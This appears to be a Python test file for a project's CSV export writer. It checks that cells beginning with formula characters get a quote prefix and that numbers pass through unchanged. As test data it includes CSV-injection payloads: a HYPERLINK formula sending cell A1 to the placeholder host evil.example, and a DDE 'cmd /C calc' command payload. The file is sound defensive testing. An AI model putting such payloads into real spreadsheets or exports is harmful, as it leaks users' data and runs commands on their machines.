"""Issue #10, hole 4: the one CSV writer of the exports neutralises spreadsheet formulas."""

import csv
import io
import re

from hypothesis import given
from hypothesis import strategies as st

from relais.core import csv as safe_csv

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n")


def _written(row, **kwargs) -> list[str]:
    buffer = io.StringIO()
    safe_csv.writer(buffer, delimiter=";", **kwargs).writerow(row)
    return next(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";"))


def test_formulas_become_text_and_numbers_stay_numbers():
    cells = ['=HYPERLINK("https://evil.example/?"&A1;"Cliquez")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"]
    assert _written(cells) == ["'" + cell for cell in cells]
    numbers = ["-12.5", "+33612345678", "-3,5", "12", "-0.5e3", 42, -7.25]
    assert _written(numbers) == [str(n) for n in numbers]
    assert _written(["Camille", "", "a=b", "— "]) == ["Camille", "", "a=b", "— "]
    assert _written(["-", "--", "- Douches", "-inf", "+nan"]) == ["'-", "'--", "'- Douches", "'-inf", "'+nan"]


def test_dict_writer_neutralises_cells():
    buffer = io.StringIO()
    writer = safe_csv.DictWriter(buffer, fieldnames=["nom", "montant"])
    writer.writeheader()
    writer.writerow({"nom": "=1+1", "montant": "-4.5"})
    assert list(csv.DictReader(io.StringIO(buffer.getvalue()))) == [{"nom": "'=1+1", "montant": "-4.5"}]


_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


@given(st.text())
def test_no_cell_reaches_a_spreadsheet_as_a_formula(text):
    cell = safe_csv.safe_cell(text)
    if text.startswith(DANGEROUS) and not _NUMBER.fullmatch(text):
        assert cell == "'" + text
    else:
        assert cell == text
    assert not cell.startswith(DANGEROUS) or _NUMBER.fullmatch(cell)
    assert safe_csv.unsafe_cell(cell) == text or (text.startswith("'") and text[1:].startswith(DANGEROUS))
    assert _written([text]) == [cell]


@given(st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False), st.decimals(allow_nan=False)))
def test_real_numbers_are_kept(number):
    assert safe_csv.safe_cell(number) == number
    text = str(number)
    if "inf" not in text.lower() and "nan" not in text.lower():
        assert safe_csv.safe_cell(text) == text
